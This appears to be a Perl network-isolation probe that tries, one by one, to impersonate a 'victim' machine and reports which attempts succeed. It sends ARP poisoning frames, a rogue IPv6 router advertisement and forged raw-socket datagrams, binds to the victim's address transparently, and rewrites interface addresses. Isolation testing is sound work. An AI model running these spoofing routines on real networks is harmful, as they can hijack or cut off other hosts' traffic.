# All that a program can try to speak for another machine on its network: prints a line for each try.
# Arguments: the victim's address, the host's on the victim's bridge, a UDP port of each that know each other.
use strict;
use warnings;
use Socket;

my ( $victim, $host, $victim_port, $host_port ) = @ARGV;
my $nobody = "\x02\x66\x66\x66\x66\x66";
my $all    = "\xff" x 6;

sub report {
    my ( $what, $done ) = @_;
    print "$what: ", $done ? "done" : "refused ($!)", "\n";
    return $done;
}

sub interface {
    open my $file, '<', '/sys/class/net/eth0/ifindex' or return 0;
    return <$file> + 0;
}

# struct sockaddr_ll
sub link_address {
    my ($protocol) = @_;
    return pack 'SnlSCCa8', 17, $protocol, interface(), 1, 0, 6, $all;
}

sub arp {
    my ($operation) = @_;
    return pack( 'nnCCn', 1, 0x0800, 6, 4, $operation ) . $nobody . inet_aton($victim) . $all . inet_aton($host);
}

# An Ethernet socket of each type: the victim's address is said to be at nobody's.
for my $type ( [ raw => 3 ], [ datagram => 2 ] ) {
    my ( $name, $number ) = @$type;
    report( "packet $name", socket( my $socket, 17, $number, unpack 'S', pack 'n', 0x0806 ) ) or next;
    my $head = $name eq 'raw' ? $all . $nobody . pack( 'n', 0x0806 ) : '';
    my $sent = 1;
    for my $operation ( 1, 2, 1, 2 ) {
        $sent &&= send $socket, $head . arp($operation), 0, link_address(0x0806);
    }
    report( "arp $name", $sent );
}

# A router advertisement.
if ( report( 'packet ipv6', socket( my $socket, 17, 3, unpack 'S', pack 'n', 0x86dd ) ) ) {
    my $source = pack 'n8', 0xfe80, 0, 0, 0, 0x66, 0x66ff, 0xfe66, 0x6666;
    my $target = pack 'n8', 0xff02, 0, 0, 0, 0, 0, 0, 1;
    my $advert = pack 'CCnCCnNN', 134, 0, 0, 64, 0, 1800, 0, 0;
    my $packet = pack( 'NnCC', 6 << 28, length $advert, 58, 255 ) . $source . $target . $advert;
    my $frame  = "\x33\x33\x00\x00\x00\x01$nobody" . pack( 'n', 0x86dd ) . $packet;
    report( 'router advertisement', send $socket, $frame, 0, link_address(0x86dd) );
}

# Packets of any content.
report( 'raw icmp',   socket( my $icmp,   AF_INET, SOCK_RAW, 1 ) );
report( 'raw udp',    socket( my $udp,    AF_INET, SOCK_RAW, 17 ) );
report( 'raw tcp',    socket( my $tcp,    AF_INET, SOCK_RAW, 6 ) );
report( 'raw icmpv6', socket( my $icmpv6, 10,      SOCK_RAW, 58 ) );
if ( report( 'raw any', socket( my $socket, AF_INET, SOCK_RAW, 255 ) ) ) {
    my $data = pack( 'nnnn', $host_port, $victim_port, 14, 0 ) . 'forged';
    my $head = pack 'CCnnnCCn', 0x45, 0, 20 + length $data, 1, 0, 64, 17, 0;
    my $packet = $head . inet_aton($host) . inet_aton($victim) . $data;
    report( 'forged datagram', send $socket, $packet, 0, pack_sockaddr_in( 0, inet_aton($victim) ) );
}

# An address that is the victim's.
socket( my $plain, AF_INET, SOCK_DGRAM, 0 ) or die "socket: $!";
report( 'transparent', setsockopt( $plain, 0, 19, pack 'i', 1 ) );
setsockopt $plain, 0, 15, pack 'i', 1;
report( 'sent from the victim\'s address',
    bind( $plain, pack_sockaddr_in( 0, inet_aton($victim) ) )
      && send( $plain, 'forged', 0, pack_sockaddr_in( $host_port, inet_aton($host) ) ) );

# struct ifreq with the victim's address, or nobody's hardware address.
my $address = pack 'a16a16x8', 'eth0', pack_sockaddr_in( 0, inet_aton($victim) );
report( 'own address', ioctl $plain, 0x8916, $address );
my $hardware = pack 'a16Sa14x8', 'eth0', 1, $nobody;
report( 'own hardware address', ioctl $plain, 0x8924, $hardware );

# The victim itself.
socket( my $stream, AF_INET, SOCK_STREAM, 0 ) or die "socket: $!";
my $connected = eval {
    local $SIG{ALRM} = sub { $! = 110; die };
    alarm 2;
    my $connected = connect $stream, pack_sockaddr_in( 60999, inet_aton($victim) );
    alarm 0;
    $connected;
};
report( 'connection to the victim', $connected );
